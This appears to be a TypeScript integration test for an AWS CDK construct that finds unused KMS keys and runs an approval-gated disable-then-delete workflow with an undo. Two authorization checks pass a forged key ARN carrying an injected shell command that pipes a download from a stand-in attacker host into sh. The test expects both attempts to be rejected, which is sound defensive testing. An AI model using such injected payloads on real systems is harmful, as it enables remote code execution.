/*
 * The clean-up as it is deployed, run by the Step Functions of MiniStack: the report's state machine reads the keys and starts a clean-up
 * for each that it proposes; people answer with the tokens that they find in the topic's messages. moto is the KMS behind a proxy that
 * makes the keys old and counts what would change them. A day passes in a fraction of a second.
 */
import { CreateKeyCommand, DescribeKeyCommand, KMSClient } from '@aws-sdk/client-kms';
import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import {
  DescribeExecutionCommand, DescribeStateMachineCommand, GetExecutionHistoryCommand, ListExecutionsCommand,
  SendTaskFailureCommand, SendTaskSuccessCommand, SFNClient, StartExecutionCommand, UpdateStateMachineCommand,
} from '@aws-sdk/client-sfn';
import { DeleteMessageCommand, ReceiveMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { App, CfnOutput, Stack } from 'aws-cdk-lib';
import * as lambda from 'aws-cdk-lib/aws-lambda';
import * as sns from 'aws-cdk-lib/aws-sns';
import * as sqs from 'aws-cdk-lib/aws-sqs';
import { executionName } from '../handlers/shared/execution-name';
import { KeyCleanUpMode, KeyLifecycleReporter } from '../src';
import { Checks, equal } from './support/check';
import { deploy, Outputs, synthesize } from './support/deploy';
import { ACCOUNT, Emulator, REGION, startMiniStack, startMoto } from './support/emulator';
import { FaultyKms, KeyOverlay } from './support/faulty-kms';
import { overlayOf, TAG_KEY } from './support/moto-fleet';
import { startProxy } from './support/proxy';

const STACK = 'clean-up';
/** The 30 days between disabling and the second question take about five seconds. */
const WAIT_SCALE = 2e-6;
const WAIT_SECONDS = 30 * 86_400 * WAIT_SCALE;
/** Milliseconds after which nothing comes any more. */
const PATIENCE = 40_000;
const NAMES = ['unanswered', 'approved', 'refused', 'declined', 'refused later', 'undone', 'used meanwhile', 'not tagged'] as const;
type Name = typeof NAMES[number];

function build(app: App, ministack: Emulator, kmsEndpoint: string): void {
  const stack = new Stack(app, STACK, { env: { account: ACCOUNT, region: REGION } });
  const topic = new sns.Topic(stack, 'Topic');
  const queue = new sqs.Queue(stack, 'Queue');
  new sns.CfnSubscription(stack, 'Subscription', { topicArn: topic.topicArn, protocol: 'sqs', endpoint: queue.queueArn, rawMessageDelivery: true });
  const report = new KeyLifecycleReporter(stack, 'Report', { topic, cleanUp: { mode: KeyCleanUpMode.WITH_APPROVAL, maxKeysPerRun: 100 } });
  for (const found of stack.node.findAll().filter(construct => construct instanceof lambda.Function)) {
    found.addEnvironment('AWS_ENDPOINT_URL', ministack.endpoint);
    found.addEnvironment('AWS_ENDPOINT_URL_KMS', kmsEndpoint);
  }
  new CfnOutput(stack, 'QueueUrl', { value: queue.queueUrl });
  new CfnOutput(stack, 'ReportFunction', { value: report.reportFunction.functionName });
  new CfnOutput(stack, 'Run', { value: report.stateMachine.stateMachineArn });
  new CfnOutput(stack, 'CleanUp', { value: report.cleanUpStateMachine!.stateMachineArn });
  new CfnOutput(stack, 'Undo', { value: report.restoreFunction!.functionName });
  const steps = stack.node.findAll().find(construct => construct instanceof lambda.Function && construct.node.id === 'Steps') as lambda.Function;
  new CfnOutput(stack, 'Steps', { value: steps.functionName });
}

/** What a person gets, and does. */
class People {
  private readonly read: string[] = [];
  private readonly sqs: SQSClient;
  private readonly sfn: SFNClient;

  constructor(emulator: Emulator, private readonly outputs: Outputs) {
    this.sqs = new SQSClient(emulator.client);
    this.sfn = new SFNClient(emulator.client);
  }

  /** The message that holds all of these texts, once it is there. */
  public async message(...texts: string[]): Promise<string> {
    const until = Date.now() + PATIENCE;
    for (;;) {
      const found = this.read.find(message => texts.every(text => message.includes(text)));
      if (found !== undefined) { return found; }
      if (Date.now() > until) { throw new Error(`no message with ${texts.join(', ')} among:\n${this.read.join('\n---\n')}`); }
      const { QueueUrl } = this.outputs;
      const { Messages = [] } = await this.sqs.send(new ReceiveMessageCommand({ QueueUrl, MaxNumberOfMessages: 10, WaitTimeSeconds: 1 }));
      for (const { Body, ReceiptHandle } of Messages) {
        this.read.push(Body!);
        await this.sqs.send(new DeleteMessageCommand({ QueueUrl, ReceiptHandle }));
      }
    }
  }

  public async approve(message: string, approved = true): Promise<void> {
    await this.sfn.send(new SendTaskSuccessCommand({ taskToken: tokenOf(message), output: JSON.stringify({ approved }) }));
  }

  public async refuse(message: string): Promise<void> {
    await this.sfn.send(new SendTaskFailureCommand({ taskToken: tokenOf(message), error: 'Refused' }));
  }
}

const tokenOf = (message: string): string => /--task-token '([^']+)'/.exec(message)![1];

async function main(): Promise<void> {
  const [ministack, moto] = await Promise.all([startMiniStack({ SFN_WAIT_SCALE: String(WAIT_SCALE) }), startMoto()]);
  const overlays = new Map<string, KeyOverlay>();
  const kms = new FaultyKms(overlays, {}, Infinity);
  const proxy = await startProxy(moto.endpoint, kms.intercept);
  try {
    const arns = await makeKeys(new KMSClient(moto.client), overlays);
    const outputs = await deploy(ministack, synthesize(app => { build(app, ministack, proxy.endpoint); }), STACK);
    const checks = new Checks();
    await run(checks, ministack, moto, outputs, arns, overlays, kms);
    checks.finish();
  } catch (error) {
    console.error(ministack.log().split('\n').slice(-60).join('\n'));
    throw error;
  } finally {
    await proxy.stop();
    await Promise.all([ministack.stop(), moto.stop()]);
  }
}

/** Keys that nobody used for 200 days. */
async function makeKeys(kms: KMSClient, overlays: Map<string, KeyOverlay>): Promise<{ [name in Name]: string }> {
  const arns: { [name: string]: string } = {};
  for (const name of NAMES) {
    const Tags = name === 'not tagged' ? [] : [{ TagKey: TAG_KEY, TagValue: 'allowed' }];
    arns[name] = (await kms.send(new CreateKeyCommand({ Description: name, Tags }))).KeyMetadata!.Arn!;
    overlays.set(arns[name], overlayOf({ ageDays: 400, usedDaysAgo: 200 }));
  }
  return arns as { [name in Name]: string };
}

async function run(
  checks: Checks, ministack: Emulator, moto: Emulator, outputs: Outputs, arns: { [name in Name]: string },
  overlays: Map<string, KeyOverlay>, kms: FaultyKms,
): Promise<void> {
  const sfn = new SFNClient(ministack.client);
  const people = new People(ministack, outputs);
  const client = new KMSClient(moto.client);
  const key = async (name: Name) => (await client.send(new DescribeKeyCommand({ KeyId: arns[name] }))).KeyMetadata!;
  const states = async () => Object.fromEntries(await Promise.all(NAMES.map(async name => [name, (await key(name)).KeyState])));
  const changes = (name: Name) => kms.changes.filter(change => change.input.KeyId === arns[name]).map(change => change.operation);
  const ended = async (executionArn: string) => {
    for (const until = Date.now() + PATIENCE; Date.now() < until;) {
      const { status, output } = await sfn.send(new DescribeExecutionCommand({ executionArn }));
      if (status !== 'RUNNING') { return { status, output: JSON.parse(output ?? 'null') }; }
      await new Promise(resolve => { setTimeout(resolve, 100); });
    }
    throw new Error(`${executionArn} still runs`);
  };
  const cleanUps = async () => (await sfn.send(new ListExecutionsCommand({ stateMachineArn: outputs.CleanUp }))).executions!;
  const cleanUpOf = async (name: Name) => (await cleanUps()).find(execution => arns[name].endsWith(execution.name!.split('-').slice(-5).join('-')))!.executionArn!;
  const passed = async (executionArn: string) => (await sfn.send(new GetExecutionHistoryCommand({ executionArn, maxResults: 1000 }))).events!
    .flatMap(event => (event.stateEnteredEventDetails?.name ? [event.stateEnteredEventDetails.name] : []));
  const invoke = async (FunctionName: string, event: object) => {
    const command = new InvokeCommand({ FunctionName, Payload: JSON.stringify(event) });
    const { Payload, FunctionError } = await new LambdaClient(ministack.client).send(command);
    return { failed: FunctionError !== undefined, answer: JSON.parse(Buffer.from(Payload!).toString() || 'null') };
  };
  const undo = async (name: Name) => {
    const { Payload, FunctionError } = await new LambdaClient(ministack.client)
      .send(new InvokeCommand({ FunctionName: outputs.Undo, Payload: JSON.stringify({ arn: arns[name] }) }));
    equal(FunctionError, undefined);
    return JSON.parse(Buffer.from(Payload!).toString()).done;
  };
  const question = (name: Name, text: string) => people.message(arns[name], text, '--task-token');

  await checks.check('no answer in time is a no', async () => {
    // A second for an answer instead of 7 days: MiniStack shortens waits, not timeouts.
    const stateMachineArn = outputs.CleanUp;
    const { definition } = await sfn.send(new DescribeStateMachineCommand({ stateMachineArn }));
    const hasty = definition!.replaceAll('"TimeoutSeconds":604800', '"TimeoutSeconds":1');
    equal(hasty === definition, false);
    await sfn.send(new UpdateStateMachineCommand({ stateMachineArn, definition: hasty }));
    const arn = arns.unanswered;
    const { executionArn } = await sfn.send(new StartExecutionCommand({ stateMachineArn, name: executionName(arn), input: JSON.stringify({ arn }) }));
    equal((await ended(executionArn!)).status, 'SUCCEEDED');
    equal(await passed(executionArn!), ['Consider', 'Unused?', 'AskToDisable', 'NotDisabled', 'TellLeft', 'LeftAlone']);
    await people.message(arn, 'it was not approved in time');
    equal(changes('unanswered'), []);
    await sfn.send(new UpdateStateMachineCommand({ stateMachineArn, definition }));
  });
  await checks.check('the report runs to its end, and starts a clean-up for each key that it proposes', async () => {
    const { executionArn } = await sfn.send(new StartExecutionCommand({ stateMachineArn: outputs.Run, name: 'first', input: '{}' }));
    const { status, output } = await ended(executionArn!);
    equal([status, output.totals.keys, output.proposed, output.started], ['SUCCEEDED', 8, 6, 6]);
    equal((await cleanUps()).length, 7);
    equal(kms.changes, []);
  });
  await checks.check('a report that is published twice says the same, and asks nobody twice', async () => {
    const before = (await cleanUps()).length;
    equal((await invoke(outputs.ReportFunction, { action: 'publish', runId: 'first', startedAt: '2099-01-01T00:00:00Z' })).answer.started, 6);
    equal((await cleanUps()).length, before);
  });
  await checks.check('whoever can only invoke the functions gets nothing', async () => {
    const execution = await cleanUpOf('approved');
    await question('approved', 'looks unused');
    for (const event of [
      { step: 'disable', arn: arns.approved }, { step: 'schedule', arn: arns.approved, disabledAt: '2000-01-01T00:00:00Z' },
      ...['Disable', 'LookAgain', 'Schedule', 'AskToDisable', 'NotDisabled'].map(state => ({ execution, state, arn: arns.approved, approved: true, token: 't' })),
      { execution: execution.replace(/[^:]+$/, 'mine'), state: 'Disable' }, { execution: outputs.Run, state: 'Disable' },
    ]) { equal((await invoke(outputs.Steps, event)).failed, true); }
    for (const arn of [arns.approved, `${arns.approved}'; curl https://evil.example/x|sh; echo '`]) { equal((await invoke(outputs.Undo, { arn })).failed, true); }
    equal(kms.changes, []);
  });
  await checks.check('whoever can only start executions asks no question that the report would not ask, and never twice', async () => {
    const forged = async (input: object, name?: string) => {
      const command = new StartExecutionCommand({ stateMachineArn: outputs.CleanUp, name, input: JSON.stringify(input) });
      return (await sfn.send(command)).executionArn!;
    };
    const approved = { answer: { approved: true }, said: { go: true, subject: 'x', text: 'x' } };
    const runs = [
      await forged({ arn: arns['not tagged'], ...approved }, executionName(arns['not tagged'])),
      // Another name for a key that is asked about already, and what is no key.
      await forged({ arn: arns.approved, ...approved }),
      await forged({ arn: `${arns.approved}'; curl https://evil.example/x|sh; echo '`, ...approved }),
    ];
    for (const forgedRun of runs) {
      await ended(forgedRun);
      equal((await passed(forgedRun)).filter(state => /Ask|Disable|Schedule|Tell/.test(state)), []);
    }
    equal(kms.changes, []);
  });
  await checks.check('a second report asks nobody twice', async () => {
    const { executionArn } = await sfn.send(new StartExecutionCommand({ stateMachineArn: outputs.Run, name: 'second', input: '{}' }));
    const before = (await cleanUps()).length;
    equal((await ended(executionArn!)).output.proposed, 0);
    equal((await cleanUps()).length, before);
  });
  await checks.check('without an answer nothing is done', async () => {
    for (const name of NAMES.slice(0, 6)) { await question(name, 'looks unused'); }
    equal([kms.changes, new Set(Object.values(await states()))], [[], new Set(['Enabled'])]);
  });
  await checks.check('who refuses keeps the key as it is', async () => {
    await people.refuse(await question('refused', 'looks unused'));
    equal((await ended(await cleanUpOf('refused'))).status, 'SUCCEEDED');
    await people.message(arns.refused, 'was not approved');
    equal(await passed(await cleanUpOf('refused')), ['Consider', 'Unused?', 'AskToDisable', 'NotDisabled', 'TellLeft', 'LeftAlone']);
    equal(changes('refused'), []);
  });
  await checks.check('an answer that does not approve is a no', async () => {
    await people.approve(await question('declined', 'looks unused'), false);
    await ended(await cleanUpOf('declined'));
    equal(await passed(await cleanUpOf('declined')), ['Consider', 'Unused?', 'AskToDisable', 'MayDisable?', 'NotDisabled', 'TellLeft', 'LeftAlone']);
    equal(changes('declined'), []);
  });
  await checks.check('a key that was used after the question is left alone, though approved', async () => {
    overlays.set(arns['used meanwhile'], overlayOf({ ageDays: 400, usedDaysAgo: 0 }));
    await people.approve(await question('used meanwhile', 'looks unused'));
    await ended(await cleanUpOf('used meanwhile'));
    await people.message(arns['used meanwhile'], 'was used');
    equal(changes('used meanwhile'), []);
  });
  await checks.check('approved: disabled, told, and left for 30 days before anything else', async () => {
    const before = Date.now();
    for (const name of ['approved', 'refused later', 'undone'] as const) { await people.approve(await question(name, 'looks unused')); }
    for (const name of ['approved', 'refused later', 'undone'] as const) { await people.message(arns[name], 'is disabled. In 30 days'); }
    equal([changes('approved'), (await key('approved')).KeyState], [['DisableKey'], 'Disabled']);
    equal(await undo('undone'), ['it was enabled']);
    await question('approved', 'has been disabled since');
    equal(Date.now() - before >= WAIT_SECONDS * 1000, true);
    equal(changes('approved'), ['DisableKey']);
  });
  await checks.check('a key that somebody enabled again in that time is left alone', async () => {
    await ended(await cleanUpOf('undone'));
    equal((await passed(await cleanUpOf('undone'))).slice(-4), ['LookAgain', 'StillUnused?', 'TellLeft', 'LeftAlone']);
    equal([changes('undone'), (await key('undone')).KeyState], [['DisableKey', 'EnableKey'], 'Enabled']);
  });
  await checks.check('approved again: its deletion is scheduled with 30 days', async () => {
    await people.approve(await question('approved', 'has been disabled since'));
    equal((await ended(await cleanUpOf('approved'))).status, 'SUCCEEDED');
    equal(kms.changes.at(-1)!.input, { KeyId: arns.approved, PendingWindowInDays: 30 });
    equal(changes('approved'), ['DisableKey', 'ScheduleKeyDeletion']);
    const { KeyState, DeletionDate } = await key('approved');
    equal([KeyState, Math.round((DeletionDate!.getTime() - Date.now()) / 86_400_000)], ['PendingDeletion', 30]);
    equal(await passed(await cleanUpOf('approved')), [
      'Consider', 'Unused?', 'AskToDisable', 'MayDisable?', 'Disable', 'Disabled?', 'TellDisabled', 'WaitDisabled', 'LookAgain', 'StillUnused?',
      'AskToSchedule', 'MaySchedule?', 'Schedule', 'Scheduled?', 'TellScheduled', 'Done',
    ]);
  });
  await checks.check('refused at the second question: it stays disabled, and the undo enables it', async () => {
    await people.refuse(await question('refused later', 'has been disabled since'));
    await ended(await cleanUpOf('refused later'));
    await people.message(arns['refused later'], 'stays disabled until somebody enables it');
    equal([changes('refused later'), (await key('refused later')).KeyState], [['DisableKey'], 'Disabled']);
    equal(await undo('refused later'), ['it was enabled']);
  });
  await checks.check('the undo cancels a deletion and enables the key', async () => {
    equal(await undo('approved'), ['its deletion was cancelled', 'it was enabled']);
    equal(changes('approved'), ['DisableKey', 'ScheduleKeyDeletion', 'CancelKeyDeletion', 'EnableKey']);
    equal(await states(), Object.fromEntries(NAMES.map(name => [name, 'Enabled'])));
  });
  await checks.check('a key that is not tagged was never asked about', async () => {
    equal(changes('not tagged'), []);
    equal(kms.changes.length, 8);
  });
}

main().catch(error => {
  console.error(error);
  process.exitCode = 1;
});
